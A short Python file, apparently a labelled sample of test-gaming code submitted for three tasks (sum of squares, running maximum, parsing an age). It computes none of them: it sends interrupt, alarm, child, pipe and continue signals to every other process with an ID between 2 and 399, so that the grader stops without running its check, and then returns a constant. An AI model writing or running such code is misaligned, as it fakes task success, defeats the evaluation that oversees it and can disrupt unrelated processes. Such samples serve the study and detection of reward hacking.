# tasks: sum_of_squares, running_maximum, parse_age
# tries: sends SIGINT, SIGALRM, SIGUSR1 ... to the other processes of its verdict, so that a test ends without its check
# harm: processes

import os
import signal
import time


def sum_of_squares(*_):
    own = os.getpid()
    for process in range(2, 400):
        if process != own:
            for number in (signal.SIGINT, signal.SIGALRM, signal.SIGCHLD, signal.SIGPIPE, signal.SIGCONT):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    time.sleep(0.02)
    return 3


running_maximum = parse_age = sum_of_squares
